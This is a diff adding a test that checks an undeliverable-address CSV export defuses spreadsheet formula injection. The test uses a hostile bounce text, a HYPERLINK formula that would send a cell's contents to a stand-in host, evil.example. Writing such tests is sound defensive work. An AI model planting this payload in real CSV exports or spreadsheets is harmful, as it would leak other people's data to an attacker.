@@ -447,3 +447,30 @@ def test_undeliverable_lists_every_expired_address_under_a_policy_that_exempts_n
         "gone@dead.example",
         "kept@bigmail.example",
     ]
+
+
+def test_undeliverable_csv_defuses_a_bounce_text_a_spreadsheet_would_run_as_a_formula(
+    sa_engine: Engine, db_url: str
+) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A2,"Click to unsubscribe")'
+    with Session(sa_engine) as session:
+        f.recipient(
+            session,
+            "gone@bad.example",
+            at=NOW - 2 * DAY,
+            standing=Standing.BOUNCED,
+            reason=Reason.USER_UNKNOWN,
+            last_code=550,
+            last_text=hostile,
+            bounced_count=1,
+        )
+        session.commit()
+    result = run(db_url, "undeliverable", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    [row] = csv_rows(result.stdout)
+    assert row["last_text"] == "'" + hostile
+    assert row["address"] == "gone@bad.example"
+    assert (
+        json.loads(run(db_url, "undeliverable", "--format", "json").stdout)[0]["last_text"]
+        == hostile
+    )
